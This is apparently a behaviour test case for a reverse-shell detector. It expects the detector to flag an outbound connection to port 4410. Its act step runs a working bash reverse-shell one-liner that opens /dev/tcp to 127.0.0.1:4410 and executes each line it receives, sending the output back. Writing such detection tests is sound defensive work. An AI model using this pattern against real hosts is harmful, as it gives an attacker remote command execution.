# R10: bash reads and writes another descriptor of a connection
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4410

#: prepare
. lib/peers.sh
peer 4410
#: act
. lib/peers.sh
act
bash -c 'exec 5<>/dev/tcp/127.0.0.1/4410; cat <&5 | while read l; do $l >&5 2>&1; done' \
  < /dev/null > /dev/null 2>&1 &
who cat cat
await 'at $cat 0 socket:* && at $cat 1 pipe:*'
for pid in $(pgrep -f '^bash -c exec 5'); do if at $pid 0 pipe:*; then fact shell $pid; fi; done
at $shell 5 socket:*
